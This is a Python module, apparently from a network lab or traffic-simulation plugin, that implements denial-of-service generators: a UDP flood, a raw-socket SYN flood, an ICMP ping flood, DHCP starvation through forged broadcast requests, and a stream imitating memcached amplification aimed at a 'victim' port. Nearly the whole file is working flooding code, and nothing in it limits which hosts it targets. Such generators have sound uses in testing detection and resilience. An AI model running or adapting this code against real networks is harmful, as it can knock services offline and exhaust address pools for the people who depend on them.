"""Too much of something: floods, addresses asked for by the thousand, answers sent to others."""

from __future__ import annotations

import contextlib
import random
import socket
from typing import TYPE_CHECKING

from plugin.lab import packets, wire

if TYPE_CHECKING:
    from collections.abc import Iterator

    from plugin.lab.plan import Plan

FLOOD_PORT = 9
FLOOD_BYTES = 64
SYN_PORT = 80
AMPLIFIER_PORT, ANSWER_BYTES = 11_211, 1_300
"""memcached's over UDP, which answers by the megabyte, in datagrams of about this size."""
VICTIM_PORT = 80
NIC = "eth0"
_HIGH_PORTS = (1024, 65_535)
_IPV4 = 0x0800


def udp_flood(what: Plan) -> Iterator[None]:
    """Flood: datagrams to one port, as fast as told."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        load = bytes(FLOOD_BYTES)
        while True:
            with contextlib.suppress(OSError):  # "port unreachable" comes back as an error
                sock.sendto(load, (what.target, FLOOD_PORT))
            yield


def syn_flood(what: Plan) -> Iterator[None]:
    """SYN flood: asks one port for connections that it never makes, each from another port."""
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    source, target = socket.inet_aton(own_address(what.target)), socket.inet_aton(what.target)
    with _raw() as sock:
        while True:
            ports = chance.randint(*_HIGH_PORTS), SYN_PORT
            segment = packets.tcp_syn(source, target, ports, chance.getrandbits(32))
            packet = packets.ipv4(source, target, packets.TCP, segment)
            with contextlib.suppress(OSError):
                sock.sendto(packet, (what.target, 0))
            yield


def icmp_flood(what: Plan) -> Iterator[None]:
    """Ping flood: echo requests to one host, as fast as told."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        number = 0
        while True:
            number += 1
            request = packets.echo_request(what.seed, number, bytes(FLOOD_BYTES))
            with contextlib.suppress(OSError):
                sock.sendto(request, (what.target, 0))
            yield


def dhcp_flood(what: Plan) -> Iterator[None]:
    """DHCP starvation: asks for an address in the name of ever new clients, to all."""
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    me = bytes.fromhex(what.mac.replace(":", ""))
    ports = packets.DHCP_CLIENT, packets.DHCP_SERVER
    ends = packets.NOBODY, packets.BROADCAST
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((NIC, 0))
        while True:
            datagram = packets.udp(*ends, ports, packets.dhcp_discover(chance))
            packet = packets.ipv4(*ends, packets.UDP, datagram)
            sock.send(packets.frame(me, packets.EVERYBODY, _IPV4, packet))
            yield


def amplify(what: Plan) -> Iterator[None]:
    """Amplification: large answers of a service that is known to be abused, to a victim outside.

    Who asked for them in the victim's name is not seen, as behind another way out.
    """
    chance = random.Random(what.seed)  # noqa: S311 - no secret
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("", AMPLIFIER_PORT))
        while True:
            with contextlib.suppress(OSError):
                sock.sendto(wire.noise(chance, ANSWER_BYTES), (what.target, VICTIM_PORT))
            yield


def own_address(target: str) -> str:
    """Give the address from which this host reaches another."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((target, FLOOD_PORT))
        return str(sock.getsockname()[0])


def _raw() -> socket.socket:
    """A socket for packets with an IP header of their own."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
